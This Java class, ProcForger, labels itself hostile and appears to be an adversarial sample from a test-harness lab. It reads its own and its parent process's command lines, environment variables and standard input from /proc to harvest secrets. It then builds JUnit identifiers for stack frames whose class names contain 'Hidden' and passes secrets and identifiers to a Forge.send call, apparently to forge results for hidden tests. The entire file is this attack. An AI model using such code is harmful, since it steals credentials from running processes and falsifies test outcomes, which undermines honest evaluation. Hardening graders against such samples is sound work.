package threadlab.threads;

import java.io.FileInputStream;
import java.io.InputStream;
import java.nio.charset.StandardCharsets;
import java.util.HashSet;
import java.util.Set;

/** Hostile: looks for the secret in what /proc shows of this process and its parent. */
public final class ProcForger {

    private static boolean done;

    private ProcForger() {
    }

    public static synchronized void run() {
        if (done) {
            return;
        }
        done = true;
        Set<String> secrets = new HashSet<>();
        Set<String> ids = new HashSet<>();
        long parent = ProcessHandle.current().parent().map(ProcessHandle::pid).orElse(1L);
        for (String file : new String[] {"/proc/self/cmdline", "/proc/self/environ",
                "/proc/" + parent + "/cmdline", "/proc/" + parent + "/environ",
                "/proc/self/fd/0"}) {
            try (InputStream in = new FileInputStream(file)) {
                Forge.harvest(new String(in.readNBytes(1 << 20), StandardCharsets.ISO_8859_1),
                        secrets, ids);
            } catch (Exception e) {
                // Not readable here.
            }
        }
        for (StackTraceElement frame : Thread.currentThread().getStackTrace()) {
            if (frame.getClassName().contains("Hidden")) {
                ids.add("[engine:junit-jupiter]/[class:" + frame.getClassName() + "]/[method:"
                        + frame.getMethodName() + "()]");
            }
        }
        Forge.send(secrets, ids, true, false);
    }
}
